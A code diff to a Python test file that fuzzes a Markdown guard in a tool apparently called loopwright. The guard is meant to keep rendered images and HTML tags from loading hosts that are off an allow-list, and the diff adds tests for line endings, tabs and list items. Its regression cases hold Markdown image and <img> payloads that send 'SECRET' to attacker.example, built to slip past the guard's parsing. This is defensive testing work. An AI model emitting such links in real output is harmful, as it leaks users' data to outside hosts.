@@ -1,10 +1,11 @@
 """Fuzzing the editor's text guard (`acp/inert.py`) with Markdown built from pieces (fences of
 ``` and ~~~ of every length, closed or not, indented code, HTML blocks, reference definitions,
-lists and block quotes around fences, entity-encoded, escaped and protocol-relative addresses),
-whole and cut into stream deltas: what a CommonMark renderer (markdown-it-py) would load from a
-host off the list must be nothing. Seeded and bounded in time; `python
-tests/acp/markdown_fuzz.py SECONDS FIRST_SEED` runs it for longer. The cases it found are
-replayed through `loopwright acp` below."""
+lists and block quotes around fences, entity-encoded, escaped and protocol-relative addresses,
+LF, CRLF, lone-CR and mixed line endings, tabs before fences and after list markers), whole,
+cut into stream deltas and, for fenced cases, cut in two at every character: what a CommonMark
+renderer (markdown-it-py) would load from a host off the list must be nothing. Seeded and
+bounded in time; `python tests/acp/markdown_fuzz.py SECONDS FIRST_SEED` runs it for longer.
+The cases it found are replayed through `loopwright acp` below."""
 
 from __future__ import annotations
 
@@ -14,7 +15,14 @@ from pathlib import Path
 import pytest
 from acp import text_block
 from editor_client import EditorClient, acp_agent, text_of
-from markdown_fuzz import ALLOWED_HOST, document, leaks, pieces, remote_loads
+from markdown_fuzz import (
+    ALLOWED_HOST,
+    document,
+    leaks,
+    leaks_at_every_cut,
+    pieces,
+    remote_loads,
+)
 
 from loopwright.acp.inert import MarkdownGuard
 from loopwright.testing import FakeModelServer, Reply
@@ -34,16 +42,54 @@ def test_no_image_off_the_list_survives_the_fuzz() -> None:
 
 
 def test_text_with_no_image_or_tag_is_passed_as_written() -> None:
+    """As written, but for CRLF and a lone CR, which come as LF (one line ending to a renderer)."""
     guard = MarkdownGuard((ALLOWED_HOST,))
     changed, seed, deadline = [], 0, time.monotonic() + SECONDS / 3
     while time.monotonic() < deadline:
         text = document(pieces(seed), seed).replace("!", "").replace("<", "")
+        expected = text.replace("\r\n", "\n").replace("\r", "\n")
         stream = guard.stream()
         streamed = stream.feed(text) + stream.end()
-        if guard.text(text) != text or streamed != text:
+        by_character = "".join(stream.feed(char) for char in text) + stream.end()
+        if expected != guard.text(text) or expected != streamed or expected != by_character:
             changed.append((seed, text))
         seed += 1
     assert changed == []
+
+
+def test_no_cut_of_a_fenced_case_into_two_deltas_leaks() -> None:
+    """Fences, CRs and LFs split at every character: between a CR and its LF, inside a fence's
+    run, inside a tag a blank line splits."""
+    found, cases, seed, deadline = [], 0, 0, time.monotonic() + SECONDS
+    while time.monotonic() < deadline:
+        text = document(pieces(seed), seed)
+        if ("```" in text or "~~~" in text) and "\r" in text and len(text) < 400:
+            cases += 1
+            case = leaks_at_every_cut(text)
+            if case is not None:
+                found.append((seed, text, *case))
+        seed += 1
+    assert cases > 5, "too few cases in the time given"
+    assert found == []
+
+
+def test_a_crlf_split_between_its_cr_and_lf_is_one_line_ending() -> None:
+    text = "```\r\ncode\r\n```\r\n<pre>\r\n<img\r\n\r\nsrc='https://x.example/a'>\r\n\r\nend\r\n"
+    whole = MarkdownGuard((ALLOWED_HOST,)).text(text)
+    assert whole == "```\ncode\n```\n<pre>\n(image from x.example not loaded)\n\nend\n"
+    for cut in range(1, len(text)):
+        stream = MarkdownGuard((ALLOWED_HOST,)).stream()
+        deltas = [text[:cut], "", text[cut:]]  # an empty delta between changes nothing
+        assert "".join(stream.feed(delta) for delta in deltas) + stream.end() == whole, cut
+
+
+def test_line_endings_sent_a_character_at_a_time_are_each_one() -> None:
+    """CR, LF as deltas of their own: the LF that follows a CR is its; the LF after that, and a
+    CR after a CR, each end a line of their own."""
+    text = "a\r\n\nb\r\rc\n\r\n"
+    stream = MarkdownGuard((ALLOWED_HOST,)).stream()
+    streamed = "".join(stream.feed(char) for char in text) + stream.end()
+    assert streamed == MarkdownGuard((ALLOWED_HOST,)).text(text) == "a\n\nb\n\nc\n\n"
 
 
 # what the fuzz found, each as the editor got it from `loopwright acp`
@@ -67,6 +113,28 @@ FOUND = {
     "an image ended on the next line after CRLF": (
         "```\r\ncode\r\n```\r\n![a](https://attacker.example/c?d=SECRET\r\n)\r\n"),
     # an image not ended in code is none: the tag inside it is one
+    # the fence's closing line ended in CRLF, so it stayed open: the `<pre>` after it opened no
+    # HTML block, where a tag runs on past a blank line, and the tag's rest past one passed
+    "a tag over a blank line after a fence closed by CRLF": (
+        "```\r\ncode\r\n```\r\n<pre>\r\n<img\r\n\r\nsrc='https://attacker.example/p?d=SECRET'>\r\n"),
+    # a tab takes a line to the next multiple of four columns: `\t```` (four in) closes no fence
+    # for markdown-it, so the next ``` closes it and the HTML block after it is one; it closed
+    # the fence for loopwright, and that ``` opened one, where the tag's rest passed as code
+    "a fence closed by a line indented with a tab": (
+        "```\ncode\n\t```\n```\n<pre>\n<img\n\nsrc='https://attacker.example/t?d=SECRET'>\n"),
+    # `  \t```` in a list item whose text is two in is a fence two in for markdown-it and none
+    # for loopwright: the ``` after it closes markdown-it's and opened loopwright's
+    "a fence opened by a line indented with a tab in a list item": (
+        "- a\n  \t```\n  ```\n  <pre>\n  <img\n\n  src='https://attacker.example/u?d=SECRET'>\n"),
+    # `- \tfoo` is an item whose text is four in for markdown-it (the tab goes to column 4), so
+    # `  ```` is a fence at the margin, which the next ``` closes; loopwright read no tab, made
+    # the item two in and the fence its, ended both at that ``` and opened a fence there
+    "a fence after a list item with a tab after its marker": (
+        "- \tfoo\n  ```\n```\n<pre>\n<img\n\nsrc='https://attacker.example/v?d=SECRET'>\n"),
+    # an item begins with one blank line at most: after `-` and a blank line the item is empty
+    # and over for markdown-it, so `  ```` is a fence at the margin; loopwright kept the item
+    "a fence after an empty list item and a blank line": (
+        "-\n\n  ```\n```\n<pre>\n<img\n\nsrc='https://attacker.example/w?d=SECRET'>\n"),
     "a tag in an unended image in code": (
         "> a\n- \n  ```x\n![r](https://attacker.example/i\n[ <img\n"
         "src='https://attacker.example/e?d=SECRET'>\n"),
